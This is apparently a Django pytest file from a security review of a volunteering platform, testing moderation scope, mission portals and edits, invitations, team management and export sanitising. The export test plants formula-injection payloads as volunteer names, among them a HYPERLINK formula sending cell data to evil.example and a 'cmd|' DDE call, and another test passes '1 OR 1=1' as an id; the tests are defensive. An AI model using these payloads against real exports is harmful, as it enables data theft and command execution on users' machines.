"""Security review (issue 12): moderation scope, mission portals and edits, exports, team."""

import csv
import datetime
import importlib
import io

import openpyxl
import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.utils import timezone

from emails.models import OutboundEmail
from missions import services
from missions.models import Application, Mission
from organisations.models import Invitation, Membership, Organisation
from organisations.services import invite, role_for
from tests import factories as make
from tests.factories import client_for

pytestmark = pytest.mark.django_db


# --- 3. Moderation: every queue view is scoped to the moderator's portals --------------------


def test_moderation_inspect_shows_only_the_moderators_portals(demo):
    submitted = Organisation.Status.SUBMITTED
    own = make.organisation(demo["localhost"], submitted, slug="asso-locale")
    other = make.organisation(
        demo["covid19.localhost"], submitted, slug="asso-covid", contact_phone="0600000000"
    )
    own_mission = make.mission(own, Mission.Status.SUBMITTED)
    other_mission = make.mission(other, Mission.Status.SUBMITTED)
    client = client_for(make.moderator(demo["localhost"]))
    inspect = "/admin/organisation_queue/inspect/{}/"
    # follow=True: an admin 404 first redirects to /fr/...
    assert "contact@asso-locale" in client.get(inspect.format(own.pk), follow=True).text
    leaked = client.get(inspect.format(other.pk), follow=True)
    assert leaked.status_code == 404
    assert "contact@asso-covid" not in leaked.text
    inspect = "/admin/mission_queue/inspect/{}/"
    assert client.get(inspect.format(own_mission.pk), follow=True).status_code == 200
    assert client.get(inspect.format(other_mission.pk), follow=True).status_code == 404
    results = client.get("/admin/organisation_queue/results/", follow=True)
    assert "Asso-Locale" in results.text and "Asso-Covid" not in results.text
    for url in (
        f"/admin/organisation_queue/moderate/{other.pk}/",
        f"/admin/mission_queue/moderate/{other_mission.pk}/",
    ):
        assert client.get(url, follow=True).status_code == 404
        client.post(url, {"decision": "validated"})
    other.refresh_from_db()
    other_mission.refresh_from_db()
    assert other.status == other_mission.status == "submitted"


# --- 6. Exports: what volunteers type is never a formula --------------------------------------


def test_exports_neutralise_formulas(demo):
    organisation = make.organisation(demo["localhost"])
    manager = make.manager(organisation)
    mission = make.mission(organisation)
    evil = make.volunteer(
        "evil@example.com",
        first_name='=HYPERLINK("http://evil.example/?x="&C2,"Voir")',
        last_name="+cmd|' /C calc'!A0",
    )
    services.apply(mission.pk, evil, "@SUM(1+1)\n-2+3")
    tabbed = make.volunteer("tab@example.com", first_name="\t=1+1", last_name="\r=2+2")
    services.apply(mission.pk, tabbed, "Bonjour")
    url = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/candidatures"
    client = client_for(manager)
    rows = list(csv.reader(io.StringIO(client.get(url + ".csv").content.decode())))
    by_email = {row[2]: row for row in rows[1:]}
    assert by_email["evil@example.com"][0] == '\'=HYPERLINK("http://evil.example/?x="&C2,"Voir")'
    assert by_email["evil@example.com"][1].startswith("'+")
    assert by_email["evil@example.com"][6].startswith("'@")
    assert by_email["tab@example.com"][0] == "'\t=1+1"
    assert by_email["tab@example.com"][1] == "'\r=2+2"
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url + ".xlsx").content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert '\'=HYPERLINK("http://evil.example/?x="&C2,"Voir")' in values
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "@", "-")) for v in values)


# --- 4. A mission is shown only on its organisation's portal ----------------------------------


def mission_data(mission=None, **changes):
    data = {
        "title": "Maraude",
        "description": "<p>Aller vers</p>",
        "audience": "all",
        "places": 3,
        "postal_code": "75011",
        "city": "Paris",
        "minimum_age": 18,
        "waiting_list": "on",
    }
    if mission is not None:
        data.update(
            title=mission.title,
            description=mission.description,
            places=mission.places,
            minimum_age=mission.minimum_age,
            postal_code=mission.postal_code,
            city=mission.city,
            sites=[s.pk for s in mission.sites.all()],
        )
        if not mission.waiting_list:
            del data["waiting_list"]
    data.update(changes)
    return data


@pytest.fixture
def team(demo):
    organisation = make.organisation(demo["localhost"])
    return organisation, make.manager(organisation)


def test_a_mission_cannot_go_to_a_portal_whose_moderators_never_see_it(team, demo):
    organisation, manager = team
    other = demo["covid19.localhost"]
    client = client_for(manager)
    url = f"/fr/espace-association/{organisation.pk}/missions/nouvelle/"
    refused = client.post(url, mission_data(sites=[other.pk], submit="1"))
    assert refused.status_code == 400
    assert not Mission.objects.filter(organisation=organisation).exists()
    # The domain function says the same to any other caller.
    with pytest.raises(ValidationError) as error:
        services.save_mission(
            Mission(title="X", description="x", city="Paris", postal_code="75011"),
            organisation,
            manager,
            sites=[organisation.site, other],
        )
    assert "sites" in error.value.message_dict
    # Nothing chosen, or the dashboard opened on another portal's host: the organisation's own.
    made = client.post(url, mission_data(submit="1"), HTTP_HOST="covid19.localhost")
    assert made.status_code == 302
    mission = Mission.objects.get(organisation=organisation)
    assert list(mission.sites.all()) == [organisation.site]
    # The moderators who see it in their queue are the ones of the portals that show it.
    moderator = make.moderator(demo["localhost"])
    assert role_for(moderator, mission.organisation) == "moderator"
    # An edit cannot add the other portal either.
    edit = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/"
    assert client.post(edit, mission_data(mission, sites=[other.pk])).status_code == 400
    assert list(mission.sites.all()) == [organisation.site]


# --- 5. Editing a validated mission --------------------------------------------------------


def test_a_content_edit_of_a_validated_mission_goes_back_to_moderation(team, demo):
    organisation, manager = team
    mission = make.mission(organisation)
    assert Mission.objects.public(demo["localhost"]).filter(pk=mission.pk).exists()
    client = client_for(manager)
    edit = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/"
    # Capacity is not content: more places apply at once, the mission stays public.
    assert client.post(edit, mission_data(mission, places=5)).status_code == 302
    mission.refresh_from_db()
    assert mission.places == 5 and mission.status == "validated"
    changed = mission_data(mission, title="Venez au casino", description="<a href='x'>gagnez</a>")
    assert client.post(edit, changed).status_code == 302
    mission.refresh_from_db()
    assert mission.status == "submitted" and mission.title == "Venez au casino"
    assert not Mission.objects.public(demo["localhost"]).filter(pk=mission.pk).exists()


def test_an_edit_never_overwrites_the_active_count(team):
    organisation, manager = team
    mission = make.mission(organisation, places=3)
    make.application(mission)
    stale = Mission.objects.get(pk=mission.pk)  # what the edit form read: one active
    make.application(mission)  # counted meanwhile
    stale.places = 4
    services.save_mission(stale, organisation, manager, changed=["places"])
    mission.refresh_from_db()
    assert mission.places == 4 and mission.active_count == 2


def test_places_cannot_drop_below_the_active_applications(team):
    organisation, manager = team
    mission = make.mission(organisation, places=3)
    for _ in range(2):
        make.application(mission)
    client = client_for(manager)
    edit = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/"
    response = client.post(edit, mission_data(mission, places=1))
    assert response.status_code == 400
    assert "2 applications are active" in response.text or "2 candidatures" in response.text
    mission.refresh_from_db()
    assert mission.places == 3 and mission.active_count == 2
    assert client.post(edit, mission_data(mission, places=2)).status_code == 302


def test_more_places_promote_from_the_waiting_list(team):
    organisation, manager = team
    mission = make.mission(organisation, places=1)
    applications = [make.application(mission) for _ in range(4)]
    assert [a.status for a in applications] == ["pending"] + ["waitlisted"] * 3
    client = client_for(manager)
    edit = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/"
    assert client.post(edit, mission_data(mission, places=3)).status_code == 302
    statuses = [Application.objects.get(pk=a.pk).status for a in applications]
    assert statuses == ["pending", "pending", "pending", "waitlisted"]
    mission.refresh_from_db()
    assert mission.active_count == 3
    promoted = applications[1]
    key = f"application-promoted:{promoted.pk}"
    assert OutboundEmail.objects.filter(idempotency_key=key).exists()


# --- 7. Invitations bound to the invited address; the team managed by its managers ------------


def invited(team, email="Invitee@Example.com"):
    organisation, manager = team
    return invite(organisation, email, manager)


def test_an_invitation_joins_only_the_invited_address(team):
    organisation, _manager = team
    invitation = invited(team)
    link = f"/fr/espace-association/invitation/{invitation.token}/"
    stranger = make.volunteer()
    refused = client_for(stranger).post(link)
    assert refused.status_code == 403
    assert not Membership.objects.filter(organisation=organisation, user=stranger).exists()
    invitation.refresh_from_db()
    assert invitation.is_usable  # still there for the right person
    invitee = make.volunteer("INVITEE@example.COM")  # the same address, whatever its case
    assert client_for(invitee).post(link).status_code == 302
    assert Membership.objects.filter(organisation=organisation, user=invitee).exists()


def test_managers_remove_members_but_never_the_last(team):
    organisation, manager = team
    other = make.manager(organisation)
    second = Membership.objects.get(organisation=organisation, user=other)
    client = client_for(manager)
    page = client.get(f"/fr/espace-association/{organisation.pk}/equipe/")
    assert f"/membres/{second.pk}/retirer/" in page.text
    remove = "/fr/espace-association/{}/equipe/membres/{}/retirer/"
    assert client.post(remove.format(organisation.pk, second.pk)).status_code == 302
    assert not Membership.objects.filter(pk=second.pk).exists()
    own = Membership.objects.get(organisation=organisation, user=manager)
    client.post(remove.format(organisation.pk, own.pk))
    assert Membership.objects.filter(pk=own.pk).exists()  # the last manager stays
    # Another organisation's manager cannot touch this team.
    outsider = make.manager(make.organisation(organisation.site))
    response = client_for(outsider).post(remove.format(organisation.pk, own.pk))
    assert response.status_code == 404
    response = client.post(remove.format(organisation.pk, "999999"))
    assert response.status_code == 404


def test_managers_resend_and_revoke_invitations(team):
    organisation, manager = team
    invitation = invited(team)
    old_link = f"/fr/espace-association/invitation/{invitation.token}/"
    client = client_for(manager)
    base = f"/fr/espace-association/{organisation.pk}/equipe/invitations/{invitation.pk}"
    Invitation.objects.filter(pk=invitation.pk).update(expires_at=timezone.now())  # expired
    assert client.post(f"{base}/renvoyer/").status_code == 302
    invitation.refresh_from_db()
    assert invitation.is_usable
    new_link = f"/fr/espace-association/invitation/{invitation.token}/"
    assert new_link != old_link
    sent = OutboundEmail.objects.filter(idempotency_key__startswith=f"invitation:{invitation.pk}")
    assert sent.count() == 2
    invitee = make.volunteer("invitee@example.com")
    assert client_for(invitee).post(old_link).status_code == 400  # the old link is dead
    assert client.post(f"{base}/revoquer/").status_code == 302
    assert client_for(invitee).post(new_link).status_code == 400  # revoked
    assert not Membership.objects.filter(organisation=organisation, user=invitee).exists()
    assert client.post(f"{base}/renvoyer/").status_code == 404


# --- Low: attendance recounts places; a non-numeric application id is a 404 -------------------


def test_marking_attendance_recounts_and_offers_the_place(team):
    organisation, manager = team
    mission = make.mission(organisation, places=1, is_recurring=True)
    first = make.application(mission)
    waiting = make.application(mission)
    services.decide(first.pk, manager, accept=True)
    services.mark_attendance(first.pk, manager, happened=True)
    mission.refresh_from_db()
    assert Application.objects.get(pk=waiting.pk).status == "pending"
    assert mission.active_count == mission.active_applications().count() == 1


def test_marking_attendance_after_the_mission_recounts_without_promoting(team):
    organisation, manager = team
    mission = make.mission(organisation, places=1)
    first = make.application(mission)
    waiting = make.application(mission)
    services.decide(first.pk, manager, accept=True)
    Mission.objects.filter(pk=mission.pk).update(
        end_date=timezone.localdate() - datetime.timedelta(days=1)
    )
    services.mark_attendance(first.pk, manager, happened=False)
    mission.refresh_from_db()
    assert mission.active_count == 0
    assert Application.objects.get(pk=waiting.pk).status == "waitlisted"


@pytest.mark.parametrize("value", ["abc", "1.5", "²", "", "9" * 30, "1 OR 1=1"])
def test_a_non_numeric_application_id_is_a_404(value):
    client = client_for(make.volunteer())
    response = client.post("/fr/espace/candidatures/", {"application": value})
    assert response.status_code == 404


def test_the_migration_removes_links_to_other_portals(demo):
    migration = importlib.import_module(
        "missions.migrations.0004_missions_on_their_organisations_portal"
    )
    organisation = make.organisation(demo["localhost"])
    both = make.mission(organisation, sites=[demo["localhost"], demo["covid19.localhost"]])
    elsewhere = make.mission(organisation, sites=[demo["covid19.localhost"]])
    migration.keep_own_portal(apps, None)
    assert list(both.sites.all()) == [demo["localhost"]]
    assert list(elsewhere.sites.all()) == [demo["localhost"]]


def test_resending_an_invitation_is_rate_limited_like_sending_one(team, settings):
    organisation, manager = team
    settings.USER_EMAIL_RATE_PER_TARGET = "2/h"
    invitation = invited(team)
    client = client_for(manager)
    resend = (
        f"/fr/espace-association/{organisation.pk}/equipe/invitations/{invitation.pk}/renvoyer/"
    )
    for _ in range(2):
        assert client.post(resend).status_code == 302
    invitation.refresh_from_db()
    token = invitation.token
    page = client.post(resend, follow=True)
    assert "Trop de tentatives" in page.text or "Too many attempts" in page.text
    invitation.refresh_from_db()
    assert invitation.token == token
    sent = OutboundEmail.objects.filter(idempotency_key__startswith=f"invitation:{invitation.pk}")
    assert sent.count() == 3  # the invitation and two resends
